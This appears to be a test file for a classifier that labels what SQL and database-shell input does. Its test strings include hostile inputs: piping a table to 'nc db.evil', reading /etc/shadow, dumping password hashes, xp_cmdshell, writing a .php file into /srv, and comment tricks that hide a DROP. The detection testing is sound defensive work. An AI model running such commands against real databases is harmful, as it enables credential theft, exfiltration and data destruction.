import { describe, expect, it } from 'vitest';
import { readSql } from '../../../src/actions/code/sql.ts';
import type { SqlDialect } from '../../../src/actions/sql/dialects.ts';
import { sqlEffects } from '../../../src/actions/sql/effects.ts';
import { looksLikeSql } from '../../../src/actions/sql/recognition.ts';
import { shownEffects, shownRuns } from '../../support/outcome.ts';
import { setting } from '../../support/setting.ts';

const does = (text: string, dialect: SqlDialect = 'sql'): string[] => shownEffects({ effects: sqlEffects(text, dialect) });
const reads = (text: string, dialect: SqlDialect): string[] => {
  const outcome = readSql(dialect)(text, setting());
  return [...shownEffects(outcome), ...shownRuns(outcome)];
};

describe('statements', () => {
  it.each([
    ['DROP TABLE orders', ['db.drop orders']],
    ['drop table if exists shop.orders, baskets cascade', ['db.drop shop.orders']],
    ['DROP TEMPORARY TABLE sums', ['db.drop disposable sums']],
    ['drop table pg_temp.sums', ['db.drop disposable pg_temp.sums']],
    ['drop table tmp_sums', ['db.drop disposable tmp_sums']],
    ['drop table contemporary', ['db.drop contemporary']],
    ['drop database shop_test', ['db.drop disposable shop_test']],
    ['drop database shop_prod_test', ['db.drop shop_prod_test']],
    ['drop table test_results', ['db.drop test_results']],
    ['create table sums (a int); drop table sums', ['db.write', 'db.drop disposable sums']],
    ['create table if not exists sums (a int); drop table sums', ['db.write', 'db.drop sums']],
    ['drop view totals', ['db.write delete totals']],
    ['drop materialized view totals', ['db.write delete totals']],
    ['drop index i', ['db.write delete i']],
    ['drop type mood', ['db.write delete mood']],
    ['drop type mood cascade', ['db.drop mood']],
    ['drop owned by ada', ['db.drop all']],
    ['drop user ada', ['db.admin']],
    ['drop keyspace shop', ['db.drop shop']],
    ['alter table a drop column b', ['db.drop a']],
    ['alter table a drop b', ['db.drop a']],
    ['alter table a alter column b drop not null', ['db.write']],
    ['alter table a disable row level security', ['db.admin']],
    ['alter system set fsync = off', ['db.admin']],
    ['set global read_only = 0', ['db.admin']],
    ['set search_path = shop', ['db.read']],
    ['delete from a', ['db.write all,delete']],
    ['delete from a where 1 = 1', ['db.write all,delete']],
    ["delete from a where b = 'c' or 'x' = 'x'", ['db.write all,delete']],
    ['delete from a where b in (select c from d where true)', ['db.write delete']],
    ['delete from a limit 10', ['db.write delete']],
    ['delete a from a join b on 1', ['db.write all,delete']],
    ['delete a from a join b on a.id = b.id', ['db.write delete']],
    ['delete a from a join b using (id)', ['db.write delete']],
    ['select pg_terminate_backend(pid) from pg_stat_activity', ['db.admin']],
    ['delete a from a join b on a.id = b.id', ['db.write delete']],
    ['update a set b = (select c from d where e = 1)', ['db.write all']],
    ['update a set b = 1 where not false', ['db.write all']],
    ['insert overwrite table a select * from b', ['db.truncate a']],
    ['explain analyze delete from a', ['db.read', 'db.write all,delete']],
    ['explain delete from a', ['db.read']],
    ['do $$ begin drop table a; end $$', ['db.drop a']],
    ["do $$ begin execute 'drop table ' || name; end $$", ['db.drop']],
    ["execute immediate 'drop table a'", ['db.drop a']],
    ['create function f() returns int as $$ begin delete from a; end $$ language plpgsql', ['db.write']],
    ['create trigger t after insert on a begin delete from b; update c set d = 1; end; select 1', ['db.write', 'db.read']],
    ['create user eve', ['db.admin']],
    ['purge binary logs to "x"', ['db.drop recovery']],
    ['clean up the tables and drop me a note', []],
  ])('%s: %j', (text, expected) => expect(does(text)).toEqual(expected));
});

describe('what is undone again', () => {
  it.each<[string, SqlDialect, readonly string[]]>([
    ['begin; drop table a; rollback', 'postgresql', ['db.drop undone a']],
    ['begin; drop table a; commit', 'postgresql', ['db.drop a']],
    ['begin; drop table a; rollback to savepoint s; commit', 'postgresql', ['db.drop a']],
    ['drop table a; begin; select 1; rollback', 'postgresql', ['db.drop a', 'db.read']],
    ['start transaction; delete from a; rollback', 'mysql', ['db.write all,delete,undone']],
    ['start transaction; drop table a; rollback', 'mysql', ['db.drop a']],
  ])('%s in %s: %j', (text, dialect, expected) => expect(does(text, dialect)).toEqual(expected));
});

describe('dialects', () => {
  it.each<[SqlDialect, string, readonly string[]]>([
    ['mysql', '/*!50000 drop table a */', ['db.drop a']],
    ['postgresql', '/*!50000 drop table a */', []],
    ['postgresql', '/* /* */ drop table a; */ select 1', ['db.read']],
    ['mysql', '/* /* */ drop table a; -- */ select 1', ['db.drop a']],
    ['mysql', "select 'it\\'; drop table a; -- '", ['db.read']],
    ['postgresql', "select 'c:\\'; drop table a", ['db.read', 'db.drop a']],
    ['sql', "select 'c:\\'; drop table a", ['db.read', 'db.drop a']],
    ['sql', 'select "it\\"; drop table a; -- "', ['db.read', 'db.drop a']],
    ['mysql', 'select 1 # ; drop table a', ['db.read']],
    ['postgresql', "select a #> '{b}'; drop table a", ['db.read', 'db.drop a']],
    ['mysql', 'select 1--1; drop table a', ['db.read', 'db.drop a']],
    ['mysql', 'delimiter //\ncreate procedure p() begin delete from a; end//\ndelimiter ;\ndrop table b;', ['db.write', 'db.drop b']],
    ['mysql', 'select 1\\G drop table a', ['db.read', 'db.drop a']],
    ['postgresql', "select $a$; drop table b $a$, E'\\'; drop table c'", ['db.read']],
    ['sqlite', 'drop table [a;b]', ['db.drop a;b']],
    ['transact-sql', 'use shop\ngo\ndrop table a\ndrop table b\ngo', ['db.drop a', 'db.drop b']],
    ['transact-sql', 'if exists (select 1 from a) drop database shop', ['db.drop shop']],
    ['transact-sql', 'create procedure p as\ndelete from a;\ndelete from b;\ngo\nselect 1', ['db.write', 'db.read']],
    ['transact-sql', 'drop table #sums', ['db.drop disposable #sums']],
    ['postgresql', "select format('drop table %I', name) from a \\gexec", ['db.read', 'db.drop']],
  ])('%s: %s: %j', (dialect, text, expected) => expect(does(text, dialect)).toEqual(expected));
});

describe('what reaches beyond the database', () => {
  it.each<[SqlDialect, string, readonly string[]]>([
    ['postgresql', '\\! rm -rf notes', ['sh: rm -rf notes']],
    ['postgresql', 'select 1 \\g |tee x', ['db.read', 'sh: tee x']],
    ['postgresql', "\\copy a to program 'nc db.evil 9'", ['sh: nc db.evil 9']],
    ['postgresql', '\\copy a from notes.csv csv', ['file.read /home/ada/code/shop/notes.csv']],
    ['postgresql', '\\i more.sql\n\\o out.txt', ['file.write /home/ada/code/shop/out.txt', 'file more.sql as postgresql']],
    ['postgresql', '\\set x `id`', ['sh: id']],
    ['postgresql', "copy a from program 'id'", ['db.write', 'sh: id']],
    ['postgresql', "copy a to '/srv/a.csv'", ['db.read', 'file.write /srv/a.csv']],
    ['postgresql', 'copy a from stdin', ['db.write']],
    ['postgresql', "select pg_read_file('/etc/shadow')", ['db.read', 'file.read /etc/shadow']],
    ['postgresql', 'select rolname, rolpassword from pg_authid', ['db.read', 'secret.dump']],
    ['mysql', 'select user, authentication_string from mysql.user', ['db.read', 'secret.dump']],
    ['mysql', 'select user from shop.user', ['db.read']],
    ['mysql', 'select 1; \\! id', ['db.read', 'sh: id']],
    ['mysql', 'system id', ['sh: id']],
    ['mysql', 'source more.sql', ['file more.sql as mysql']],
    ['mysql', "select 1 into outfile '/srv/x.php'", ['db.read', 'file.write /srv/x.php']],
    ['mysql', "load data local infile '/etc/hosts' into table a", ['db.write', 'file.read /etc/hosts']],
    ['sqlite', '.shell id', ['sh: id']],
    ['sqlite', '.output |id', ['sh: id']],
    ['sqlite', '.import "|id" a', ['sh: id']],
    ['sqlite', '.read more.sql', ['file more.sql as sqlite']],
    ['sqlite', '.tables', []],
    ['sqlite', "attach '/srv/x.php' as x; create table x.y (a)", ['db.read', 'db.write', 'file.write /srv/x.php']],
    ['sqlite', "attach 'other.db' as x; select 1", ['db.read', 'file.read /home/ada/code/shop/other.db']],
    ['sqlite', "vacuum into 'copy.db'", ['db.write', 'file.write /home/ada/code/shop/copy.db']],
    ['sqlite', "select writefile('/srv/x', 'y')", ['db.read', 'file.write /srv/x']],
    ['transact-sql', "exec xp_cmdshell 'whoami'", ['sh: whoami']],
    ['transact-sql', '!! dir', ['sh: dir']],
    ['sql', "install httpfs; select * from read_text('/etc/shadow')", ['db.read', 'file.read /etc/shadow']],
  ])('%s: %s: %j', (dialect, text, expected) => expect(reads(text, dialect)).toEqual(expected));
});

describe('whether a text is SQL', () => {
  it.each([
    ['select a from b', true],
    ['begin; drop table a; commit', true],
    ['set role x; use shop; delete from a', true],
    ['/* x */ drop table a;', true],
    ['DELETE FROM "users"', true],
    ['drop table in the kitchen, please', false],
    ['select the best of these', false],
    ['update the readme set', false],
  ])('%s: %s', (text, expected) => expect(looksLikeSql(text)).toBe(expected));
});
